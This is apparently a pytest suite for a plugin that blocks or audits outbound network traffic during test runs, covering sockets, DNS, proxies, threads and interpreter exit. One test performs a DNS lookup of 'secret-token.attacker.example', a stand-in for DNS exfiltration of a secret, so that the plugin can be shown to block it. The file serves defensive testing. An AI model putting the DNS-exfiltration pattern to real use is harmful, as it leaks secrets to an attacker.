"""The socket and DNS backstop, attribution to tests, phases, and offline mode.

Loopback only: ``outbound_local = enforce`` makes 127.0.0.1 count as outbound, so real
connections can be judged without leaving the machine; anything else is blocked before it goes.
"""

from __future__ import annotations

import pytest
from inner_output import failed_only_for_swallowed_blocks

LISTENER = """
import socket, contextlib, threading

@contextlib.contextmanager
def listening(host="127.0.0.1", kind=socket.SOCK_STREAM):
    server = socket.socket(socket.AF_INET, kind)
    server.bind((host, 0))
    if kind == socket.SOCK_STREAM:
        server.listen(16)
    try:
        yield server.getsockname()[1]
    finally:
        server.close()
"""


@pytest.fixture
def suite(pytester: pytest.Pytester) -> pytest.Pytester:
    pytester.makepyfile(listener=LISTENER)
    return pytester


def ini(mode: str, *lines: str) -> str:
    return "\n".join(
        ["[pytest]", f"outbound_mode = {mode}", "outbound_sensitive_machine = false", *lines, ""]
    )


RAW_CALLS = {
    "connect": "socket.create_connection(('127.0.0.1', port)).close()",
    "connect_ex": "s = socket.socket(); s.connect_ex(('127.0.0.1', port)); s.close()",
    "sendto": "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b'x', ('127.0.0.1', port)); u.close()",
    "sendto-flags": "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b'x', 0, ('127.0.0.1', port)); u.close()",
    "sendmsg": "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendmsg([b'x'], [], 0, ('127.0.0.1', port)); u.close()",
    "asyncio-open_connection": "asyncio.run(open_and_close(port))",
    "asyncio-sock_connect": "asyncio.run(sock_connect(port))",
}

RAW_HELPERS = """
import asyncio, socket

async def open_and_close(port):
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.close()
    await writer.wait_closed()

async def sock_connect(port):
    loop = asyncio.get_running_loop()
    s = socket.socket()
    s.setblocking(False)
    await loop.sock_connect(s, ("127.0.0.1", port))
    s.close()
"""


@pytest.mark.parametrize("call", sorted(RAW_CALLS))
def test_raw_socket_recorded_in_audit_and_blocked_in_enforce(
    suite: pytest.Pytester, call: str
) -> None:
    kind = "socket.SOCK_DGRAM" if call.startswith("send") else "socket.SOCK_STREAM"
    suite.makepyfile(
        test_raw=RAW_HELPERS
        + f"""
import pytest
from listener import listening
from pytest_outbound import OutboundBlocked

def test_raw(outbound):
    with listening(kind={kind}) as port:
        try:
            {RAW_CALLS[call]}
        except OutboundBlocked:
            pass
    [record] = outbound.requests
    assert (record.client, record.host, record.port, record.verdict) == (
        "socket", "127.0.0.1", port, "violation")
"""
    )
    suite.makeini(ini("audit", "outbound_local = enforce"))
    suite.runpytest().assert_outcomes(passed=1)
    suite.makeini(ini("enforce", "outbound_local = enforce"))
    result = suite.runpytest()
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines(["*outbound request blocked: * (client: socket)*"])
    failed_only_for_swallowed_blocks(result)


def test_a_socket_made_before_the_session_is_judged_too(suite: pytest.Pytester) -> None:
    # The conftest is imported before the plugin configures: its socket predates the backstop.
    suite.makeconftest(
        """
        import socket
        import pytest

        EARLY = socket.socket()

        @pytest.fixture
        def early():
            yield EARLY
            EARLY.close()
        """
    )
    suite.makepyfile(
        """
        import pytest
        from listener import listening
        from pytest_outbound import OutboundBlocked

        def test_early(early, outbound):
            with listening() as port:
                with pytest.raises(OutboundBlocked):
                    early.connect(("127.0.0.1", port))
            [record] = outbound.requests
            assert (record.client, record.port, record.verdict) == ("socket", port, "violation")
        """
    )
    suite.makeini(ini("enforce", "outbound_local = enforce"))
    result = suite.runpytest()
    # Blocked (and so failing the test, as a swallowed block would) before it connected.
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines(["*1 outbound request(s) were blocked*"])
    failed_only_for_swallowed_blocks(result)


def test_looking_up_an_undocumented_name_is_a_dns_violation(suite: pytest.Pytester) -> None:
    suite.makefile(".toml", outbound='[[destination]]\nname = "nuget"\nhosts = ["*.nuget.org"]\n')
    suite.makeini(ini("enforce", "outbound_policy = outbound.toml"))
    suite.makepyfile(
        """
        import socket, pytest
        from pytest_outbound import OutboundBlocked

        def test_exfiltration(outbound):
            with pytest.raises(OutboundBlocked):
                socket.getaddrinfo("secret-token.attacker.example", 443)
            with pytest.raises(OutboundBlocked):
                socket.gethostbyname("secret-token.attacker.example")
            [first, second] = outbound.requests
            assert (first.client, first.host, first.reasons) == (
                "dns", "secret-token.attacker.example", ["dns"])
        """
    )
    result = suite.runpytest()
    result.assert_outcomes(failed=1)  # blocked twice, caught twice: the test still fails
    result.stdout.fnmatch_lines(
        [
            "*outbound request blocked: DNS dns://secret-token.attacker.example (client: dns)",
            "*why:  a name lookup of 'secret-token.attacker.example', which is not a documented host*",
        ]
    )
    failed_only_for_swallowed_blocks(result)


def test_an_address_is_allowed_only_if_an_allowed_name_resolved_to_it(
    suite: pytest.Pytester,
) -> None:
    suite.makefile(".toml", outbound='[[destination]]\nname = "local"\nhosts = ["localhost"]\n')
    suite.makeini(ini("enforce", "outbound_policy = outbound.toml", "outbound_local = enforce"))
    suite.makepyfile(
        """
        import socket, pytest
        from listener import listening
        from pytest_outbound import OutboundBlocked

        def test_real_peer(outbound):
            with listening() as port:
                with pytest.raises(OutboundBlocked, match="127.0.0.1"):
                    socket.create_connection(("127.0.0.1", port))   # nothing resolved to it yet
                family, kind, proto, _, address = socket.getaddrinfo("localhost", port, socket.AF_INET)[0]
                socket.create_connection(address).close()            # now "localhost" resolved to it
            assert [(r.client, r.verdict, r.destination) for r in outbound.requests] == [
                ("socket", "violation", None), ("dns", "allowed", "local"), ("socket", "allowed", "local")]
        """
    )
    result = suite.runpytest()
    result.assert_outcomes(failed=1)  # the first, blocked connection fails it
    result.stdout.fnmatch_lines(["*1 outbound request(s) were blocked*"])
    failed_only_for_swallowed_blocks(result)


def test_an_http_request_is_not_reported_again_by_the_backstop(
    suite: pytest.Pytester, loopback: None
) -> None:
    suite.makefile(".toml", outbound='[[destination]]\nname = "local"\nhosts = ["localhost"]\n')
    suite.makeini(ini("enforce", "outbound_policy = outbound.toml", "outbound_local = enforce"))
    suite.makepyfile(
        """
        import httpx, requests, urllib.request
        from loopback import serve

        def test_once(outbound):
            with serve() as base:
                url = base.replace("127.0.0.1", "localhost") + "/x"
                requests.get(url)
                httpx.get(url)
                urllib.request.urlopen(url).read()
            assert [r.client for r in outbound.requests] == ["requests", "httpx", "http.client"]
        """
    )
    suite.runpytest().assert_outcomes(passed=1)


def test_through_a_proxy_both_proxy_and_target_are_judged(
    suite: pytest.Pytester, loopback: None
) -> None:
    suite.makefile(".toml", outbound='[[destination]]\nname = "update"\nhosts = ["octopus.com"]\n')
    suite.makepyfile(
        """
        import pytest, requests
        from loopback import serve
        from pytest_outbound import OutboundBlocked

        def test_proxy(outbound):
            with serve() as proxy:   # the loopback server answers absolute URIs like a proxy
                response = requests.get("http://octopus.com/check", proxies={"http": proxy})
            assert response.text == "/check"   # the path of the absolute URI it was sent
            assert [(r.client, r.host, r.verdict) for r in outbound.requests] == [
                ("requests", "octopus.com", "allowed"), ("socket", "127.0.0.1", "allowed")]
        """
    )
    suite.makeini(
        ini(
            "enforce",
            "outbound_policy = outbound.toml",
            "outbound_local = enforce",
            "outbound_allow = 127.0.0.1",
        )
    )
    suite.runpytest().assert_outcomes(passed=1)
    # Without the proxy documented, the connection to it is blocked though the target is fine.
    suite.makeini(ini("enforce", "outbound_policy = outbound.toml", "outbound_local = enforce"))
    result = suite.runpytest()
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines(
        ["*outbound request blocked: CONNECT tcp://127.0.0.1:* (client: socket)"]
    )


def test_a_block_swallowed_in_a_background_thread_still_fails_the_test(
    suite: pytest.Pytester,
) -> None:
    suite.makeini(ini("enforce"))
    suite.makepyfile(
        """
        import threading, requests

        def check_for_updates():
            try:
                requests.get("https://telemetry.example/v1")
            except Exception:
                pass

        def test_background(outbound):
            worker = threading.Thread(target=check_for_updates)
            worker.start()
            worker.join()
            [record] = outbound.requests
            assert record.thread != "MainThread"
        """
    )
    result = suite.runpytest()
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines(["*caught the OutboundBlocked exception; the test fails anyway*"])
    failed_only_for_swallowed_blocks(result)


def test_phases_session_fixture_teardown_and_late_thread(suite: pytest.Pytester) -> None:
    suite.makeini(ini("audit", "outbound_allow = *.example"))
    suite.makeconftest(
        """
        import re, pytest, requests, responses

        @pytest.fixture(scope="session", autouse=True)
        def mock():   # first in, last out: answers the other session fixture's requests too
            with responses.RequestsMock(assert_all_requests_are_fired=False) as m:
                m.get(re.compile(".*"))
                yield

        @pytest.fixture(scope="session")
        def licence(mock):  # torn down before the mock on every pytest (8.0 orders differently)
            requests.get("https://session-setup.example/")
            yield
            requests.get("https://session-teardown.example/")

        @pytest.fixture
        def per_test():
            requests.get("https://fixture-setup.example/")
            yield
            requests.get("https://fixture-teardown.example/")
        """
    )
    suite.makepyfile(
        """
        import threading, time, requests, json, pathlib

        LATE = threading.Event()

        def test_one(licence, per_test):
            requests.get("https://call.example/")
            def later():
                LATE.wait()
                requests.get("https://late.example/")
            threading.Thread(target=later, daemon=True).start()

        def test_two():
            LATE.set()
            time.sleep(0)  # let the late thread run (it is joined below)
            for thread in __import__("threading").enumerate():
                if thread.name != "MainThread" and thread.daemon:
                    thread.join(5)
        """
    )
    result = suite.runpytest("--outbound-report", "r.json", "-p", "no:randomly")
    result.assert_outcomes(passed=2)
    import json

    report = json.loads((suite.path / "r.json").read_text())
    seen = {(r["host"], r["nodeid"].split("::")[-1], r["phase"]) for r in report["requests"]}
    assert seen == {
        ("session-setup.example", "", "session"),
        ("fixture-setup.example", "test_one", "setup"),
        ("call.example", "test_one", "call"),
        ("fixture-teardown.example", "test_one", "teardown"),
        ("late.example", "test_one", "session"),
        ("session-teardown.example", "", "session"),
    }


def test_a_pool_thread_started_by_an_earlier_test_sends_for_the_current_one(
    suite: pytest.Pytester,
) -> None:
    """A pool's worker thread outlives the test that happened to start it: what it sends
    later belongs to the test running then, not to that one as late egress."""
    suite.makeini(ini("audit", "outbound_allow = *.example"))
    suite.makepyfile(
        """
        import concurrent.futures, re, requests, responses

        POOL = concurrent.futures.ThreadPoolExecutor(1)

        def test_starts_the_worker():
            POOL.submit(lambda: None).result()

        @responses.activate
        def test_sends_through_it(outbound):
            responses.get(re.compile(".*"))
            POOL.submit(requests.get, "https://api.example/").result()
            assert [(r.host, r.nodeid.split("::")[-1], r.phase) for r in outbound.requests] == [
                ("api.example", "test_sends_through_it", "call")]
        """
    )
    suite.runpytest("-p", "no:randomly").assert_outcomes(passed=2)


def test_a_late_thread_blocked_in_enforce_fails_the_session(suite: pytest.Pytester) -> None:
    """Blocked after its test ended, nothing is left to fail for it: the session fails."""
    suite.makeini(ini("enforce"))
    suite.makepyfile(
        """
        import threading, requests
        from pytest_outbound import OutboundBlocked

        LATE = threading.Event()
        BLOCKED = []

        def test_one():
            def later():
                LATE.wait()
                try:
                    requests.get("https://late.example/")
                except OutboundBlocked:
                    BLOCKED.append(True)
            threading.Thread(target=later, daemon=True, name="late").start()

        def test_two():
            LATE.set()
            for thread in threading.enumerate():
                if thread.name == "late":
                    thread.join(5)
            assert BLOCKED == [True]
        """
    )
    result = suite.runpytest("-p", "no:randomly")
    result.assert_outcomes(passed=2)
    assert result.ret == pytest.ExitCode.TESTS_FAILED
    result.stdout.fnmatch_lines(
        ["1 request(s) outside any test were blocked (enforce): the session fails"]
    )


def test_a_name_resolved_in_another_letter_case_is_still_the_judged_host(
    suite: pytest.Pytester, loopback: None
) -> None:
    """http.client resolves the host as written (``LocalHost``); the connection to the address
    is the request's own, judged already, not another one for the backstop to record."""
    suite.makefile(".toml", outbound='[[destination]]\nname = "local"\nhosts = ["localhost"]\n')
    suite.makeini(ini("enforce", "outbound_policy = outbound.toml", "outbound_local = enforce"))
    suite.makepyfile(
        """
        import http.client
        from loopback import serve

        def test_mixed_case(outbound):
            with serve() as base:
                conn = http.client.HTTPConnection("LocalHost", int(base.rsplit(":", 1)[1]))
                conn.request("GET", "/x")
                assert conn.getresponse().read() == b"/x"
                conn.close()
            assert [(r.client, r.host, r.destination) for r in outbound.requests] == [
                ("http.client", "localhost", "local")]
        """
    )
    suite.runpytest().assert_outcomes(passed=1)


def test_collect_phase_and_non_test_violations_fail_the_session(suite: pytest.Pytester) -> None:
    suite.makeini(ini("enforce"))
    suite.makeconftest(
        """
        import pytest, requests

        @pytest.fixture(scope="session", autouse=True)
        def phone_home():
            try:
                requests.get("https://metrics.example/session")
            except Exception:
                pass   # swallowed outside any test
        """
    )
    suite.makepyfile("def test_fine():\n    pass\n")
    result = suite.runpytest()
    result.assert_outcomes(passed=1)
    assert result.ret == pytest.ExitCode.TESTS_FAILED
    result.stdout.fnmatch_lines(
        [
            "  metrics.example: undocumented: 1 request(s) outside any test",
            "    <session> at conftest.py:*: GET https://metrics.example/session [[]requests]",
            "1 request(s) outside any test were blocked (enforce): the session fails",
        ]
    )


def test_offline_blocks_documented_requests_that_reach_a_socket(
    suite: pytest.Pytester, loopback: None
) -> None:
    suite.makefile(
        ".toml", outbound='[[destination]]\nname = "update-check"\nhosts = ["octopus.com"]\n'
    )
    suite.makeini(ini("enforce", "outbound_policy = outbound.toml", "outbound_offline = true"))
    suite.makepyfile(
        """
        import pytest, requests
        from loopback import serve
        from pytest_outbound import OutboundBlocked

        def test_stubbed(outbound):
            outbound.stub("update-check", json={"latest": "2"})
            assert requests.get("https://octopus.com/check").json() == {"latest": "2"}

        def test_local_traffic_is_fine(outbound):
            with serve() as base:
                assert requests.get(base + "/x").status_code == 200

        def test_not_stubbed(outbound):
            requests.get("https://octopus.com/check")
        """
    )
    result = suite.runpytest("-p", "no:randomly")
    result.assert_outcomes(passed=2, failed=1)
    result.stdout.fnmatch_lines(
        [
            "*outbound request blocked: DNS dns://octopus.com (client: dns)",
            "*why:  octopus.com is documented (update-check), but offline: stub it*",
            "*offline mode (outbound_offline = true): answer it with a mock or a stub, e.g.:",
            '*outbound.stub("update-check", json={...})',
        ]
    )


def test_egress_at_interpreter_exit_is_reported_with_phase_exit(
    suite: pytest.Pytester,
) -> None:
    suite.makeini(ini("enforce"))
    suite.makepyfile(
        """
        import atexit, socket

        def flush():   # an atexit flush, as telemetry libraries do
            try:
                socket.getaddrinfo("telemetry.invalid", 443)
            except Exception as error:
                print("flush failed:", type(error).__name__)

        def test_registers_a_flush():
            atexit.register(flush)
        """
    )
    result = suite.runpytest_subprocess("--outbound-report", "r.json")
    result.assert_outcomes(passed=1)
    assert result.ret == 1  # the tests passed; the egress at exit fails the run
    result.stderr.fnmatch_lines(
        [
            "pytest-outbound: after the session, DNS dns://telemetry.invalid (client: dns)"
            " from test_egress_at_interpreter_exit_is_reported_with_phase_exit.py:5:"
            " violation (dns), blocked",
            "pytest-outbound: 1 request(s) after the session were blocked (enforce); exit status 1",
        ]
    )
    result.stdout.fnmatch_lines(["flush failed: OutboundBlocked"])
    import json

    [record] = json.loads((suite.path / "r.json").read_text())["requests"]
    assert (record["client"], record["phase"], record["nodeid"]) == ("dns", "exit", "")
    from pytest_outbound._report import load_report

    load_report(suite.path / "r.json")  # valid against the shipped schema, phase exit too


def test_egress_at_exit_of_an_xdist_worker_fails_the_run(suite: pytest.Pytester) -> None:
    """A test's ``atexit`` flush runs in the pytest-xdist worker after the worker reported to
    the controller: the worker blocks it and tells the controller, whose run fails."""
    suite.makeini(ini("enforce"))
    suite.makepyfile(
        """
        import atexit, socket

        def flush():
            try:
                socket.getaddrinfo("telemetry.invalid", 443)
            except Exception as error:
                print("flush failed:", type(error).__name__)

        def test_registers_a_flush():
            atexit.register(flush)

        def test_other():
            pass
        """
    )
    result = suite.runpytest_subprocess("-n", "2")
    result.assert_outcomes(passed=2)
    assert result.ret == 1
    result.stderr.fnmatch_lines(
        [
            "pytest-outbound: DNS dns://telemetry.invalid (client: dns) from"
            " test_egress_at_exit_of_an_xdist_worker_fails_the_run.py:5 ?exit?: dns;"
            " blocked in a pytest-xdist worker after it reported; the run fails*"
        ]
    )


def test_a_session_inside_a_session_records_each_socket_event_once(
    pytester: pytest.Pytester,
) -> None:
    """pytester runs a session inside the session of a plugin's own tests. The inner one finds
    the outer one's patches (some of them put back by pytest-socket after the first test) and
    must neither patch twice nor judge an event twice."""
    pytester.makeini(ini("audit"))
    pytester.makepyfile(
        '''
        pytest_plugins = ["pytester"]

        INNER = """
        import socket

        def test_inner(outbound):
            server = socket.socket()
            server.bind(("127.0.0.1", 0))
            server.listen(4)
            port = server.getsockname()[1]
            client = socket.socket()
            client.connect_ex(("127.0.0.1", port))
            client.close()
            udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            udp.sendto(b"x", ("127.0.0.1", port))
            udp.close()
            server.close()
            assert [r.method for r in outbound.requests] == ["CONNECT", "SENDTO"]
        """

        def test_first():
            pass

        def test_nested(pytester):
            pytester.makeini(
                "[pytest]\\noutbound_mode = audit\\noutbound_sensitive_machine = false\\n"
                "outbound_local = enforce\\n"
            )
            pytester.makepyfile(INNER)
            pytester.runpytest_inprocess("-p", "no:randomly").assert_outcomes(passed=1)
        '''
    )
    pytester.runpytest("-p", "no:randomly").assert_outcomes(passed=2)


# -- reading addresses as C reads them (the pure part of the audit hook) -------------------------


class _Lying(str):
    """A str whose Python-visible text differs from what C reads through the idna codec."""

    def encode(self, *args: object, **kwargs: object) -> bytes:  # type: ignore[override]
        return b"documented.example"


class _ShowsAnother(str):
    def __str__(self) -> str:
        return "documented.example"

    def lower(self) -> str:  # type: ignore[override]
        return "documented.example"


class _Index:
    def __init__(self, value: int) -> None:
        self.value = value

    def __index__(self) -> int:
        return self.value


class _IntSaysAnother(int):
    def __index__(self) -> int:
        return 443

    def __int__(self) -> int:
        return 443


def test_hosts_are_read_as_c_reads_them() -> None:
    from pytest_outbound._backstop import Unjudgeable, _exact_text

    assert _exact_text("evil.example") == "evil.example"
    assert _exact_text(b"evil.example") == "evil.example"
    assert _exact_text(_ShowsAnother("evil.example")) == "evil.example"  # its own data, as C
    # IDNA2003 (what the C code runs through) drops a zero-width joiner: judge what is asked
    assert _exact_text("a\u200db.example") == "ab.example"
    assert _exact_text("b\u00fccher.example") == "xn--bcher-kva.example"
    # a bytearray can change between C reading it and the judge reading it
    for unreadable in (_Lying("evil.example"), b"\xff.example", bytearray(b"a.example"), 12):
        with pytest.raises(Unjudgeable):
            _exact_text(unreadable)


def test_ports_are_read_as_c_reads_them() -> None:
    from pytest_outbound._backstop import Unjudgeable, _exact_port

    assert _exact_port(80) == 80
    assert _exact_port(_IntSaysAnother(80)) == 80  # C reads an int subclass's own value
    assert _exact_port(True) == 1
    with pytest.raises(Unjudgeable):  # a second __index__ call may answer otherwise
        _exact_port(_Index(80))
    with pytest.raises(Unjudgeable):
        _exact_port("80")


def test_reading_hosts_never_lets_an_unreadable_one_through() -> None:
    """Whatever ``_exact_text`` accepts is the text C hands to the resolver; anything else is
    ``Unjudgeable`` (a violation), never a quiet pass."""
    from hypothesis import given
    from hypothesis import strategies as st

    from pytest_outbound._backstop import Unjudgeable, _exact_text

    @given(st.one_of(st.text(max_size=40), st.binary(max_size=40)))
    def check(host: str | bytes) -> None:
        try:
            text = _exact_text(host)
        except Unjudgeable:
            return
        if isinstance(host, bytes):
            assert text.encode("ascii") == host
        elif host.isascii():
            assert text == host
        else:
            assert text.encode("ascii") == host.encode("idna")

    check()


def test_egress_while_pytest_imports_other_plugins_fails_the_run(
    suite: pytest.Pytester, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Between pytest registering this plugin and the first conftest, no policy is known
    yet: what another plugin sends as it is imported (``PYTEST_PLUGINS``, loaded after the
    installed ones) is kept, judged when the guard starts (phase ``collect``), and fails the
    run in enforce. It has left by then: it cannot be blocked."""
    suite.makeini(ini("enforce", "outbound_local = enforce"))
    suite.makepyfile(
        leaky_plugin="""
        import os, socket
        try:
            socket.create_connection(("127.0.0.1", int(os.environ["LEAKY_PORT"]))).close()
        except OSError:
            pass
        """,
        test_fine="def test_fine():\n    pass\n",
    )
    import socket

    with socket.socket() as closed:  # bound, not listening: the attempt is refused at once
        closed.bind(("127.0.0.1", 0))
        monkeypatch.setenv("LEAKY_PORT", str(closed.getsockname()[1]))
        monkeypatch.setenv("PYTEST_PLUGINS", "leaky_plugin")
        monkeypatch.setenv("PYTHONPATH", str(suite.path))
        result = suite.runpytest_subprocess("--outbound-report", "r.json")
    result.assert_outcomes(passed=1)
    assert result.ret == 1
    result.stdout.fnmatch_lines(
        [
            "  127.0.0.1: undocumented: 1 request(s) outside any test",
            "    <collect> at leaky_plugin.py:3: CONNECT tcp://127.0.0.1:* ?socket?",
            "1 request(s) outside any test were blocked (enforce): the session fails",
        ]
    )
    import json

    [record] = json.loads((suite.path / "r.json").read_text())["requests"]
    assert (record["phase"], record["verdict"]) == ("collect", "violation")


def test_a_hex_part_without_digits_is_a_name_to_c_so_it_is_never_taken_for_an_address(
    suite: pytest.Pytester,
) -> None:
    # inet_aton refuses "0x" with no digits: C resolves "127.0x" as a name (hosts file, then a
    # nameserver), so judging it as 127.0.0.0, which is local, let the lookup out. It is not
    # a host the plugin can judge: blocked, before C resolves it.
    suite.makeini(ini("enforce"))
    suite.makepyfile(
        """
        import socket, pytest
        from pytest_outbound import OutboundBlocked

        def test_hex(outbound):
            with pytest.raises(OutboundBlocked):
                socket.create_connection(("127.0x", 80))
            with pytest.raises(OutboundBlocked):
                socket.getaddrinfo("10.0X", 80)
            assert [r.reasons for r in outbound.requests] == [["unjudgeable"], ["unjudgeable"]]
        """
    )
    result = suite.runpytest()
    result.assert_outcomes(failed=1)
    failed_only_for_swallowed_blocks(result)


def test_a_session_inside_an_enforcing_session_cannot_widen_what_it_allows(
    pytester: pytest.Pytester,
) -> None:
    """A test that runs pytest in-process (pytester, ``pytest.main``) with a looser
    configuration of its own: the session around it still judges every socket event."""
    pytester.makeini(ini("enforce", "outbound_local = enforce"))
    pytester.makepyfile(
        '''
        import socket
        pytest_plugins = ["pytester"]

        INNER = """
        import socket

        def test_inner():
            server = socket.socket()
            server.bind(("127.0.0.1", 0))
            server.listen(4)
            client = socket.socket()
            try:
                client.connect(server.getsockname())
            finally:
                client.close()
                server.close()
        """

        def test_outer(pytester, outbound):
            pytester.makeini("[pytest]\\noutbound_mode = audit\\n")
            pytester.makepyfile(INNER)
            pytester.runpytest_inprocess("-p", "no:randomly").assert_outcomes(failed=1)
            assert [(r.client, r.host, r.verdict) for r in outbound.requests] == [
                ("socket", "127.0.0.1", "violation")
            ]
        '''
    )
    result = pytester.runpytest("-p", "no:randomly")
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines(["*outbound request blocked: CONNECT tcp://127.0.0.1:*"])


def test_a_child_that_runs_pytest_is_still_judged_by_its_bootstrap_guard(
    suite: pytest.Pytester,
) -> None:
    """A Python child runs pytest with its own (default, audit) configuration: the guard the
    parent gave it stays beneath that session and still blocks what the parent's policy
    does not allow."""
    suite.makeini(ini("enforce", "outbound_local = enforce"))
    suite.mkdir("sub")
    suite.path.joinpath("sub", "t_child.py").write_text(
        "import os, socket\n\n"
        "def test_child():\n"
        "    socket.create_connection(('127.0.0.1', int(os.environ['PORT']))).close()\n"
    )
    suite.makepyfile(
        """
        import os, subprocess, sys
        from listener import listening

        def test_parent():
            with listening() as port:
                subprocess.run(
                    [sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "-q",
                     "-c", os.devnull, os.path.join("sub", "t_child.py")],
                    env={**os.environ, "PORT": str(port)},
                )
        """
    )
    result = suite.runpytest_subprocess("-p", "no:randomly")
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines(["*CONNECT tcp://127.0.0.1:*"])


def test_egress_from_a_finalizer_at_interpreter_shutdown_is_blocked_and_fails_the_run(
    suite: pytest.Pytester,
) -> None:
    """A ``__del__`` run while the interpreter shuts down, when nothing can be imported any
    more: the block is still said and still fails the run, with no traceback of the plugin's."""
    suite.makeini(ini("enforce", "outbound_local = enforce"))
    suite.makepyfile(
        """
        import _socket, builtins

        class Cycle:  # collected only at shutdown
            def __init__(self):
                self.me = self

            def __del__(self, _socket=_socket):
                try:
                    _socket.socket().connect(("127.0.0.1", 9))
                except BaseException:
                    pass

        def test_leaves_a_cycle():
            builtins._kept = Cycle()
        """
    )
    result = suite.runpytest_subprocess()
    result.assert_outcomes(passed=1)
    assert result.ret == 1
    result.stderr.fnmatch_lines(
        ["pytest-outbound: 1 request(s) after the session were blocked (enforce); exit status 1"]
    )
    assert "ImportError" not in result.stdout.str() + result.stderr.str()
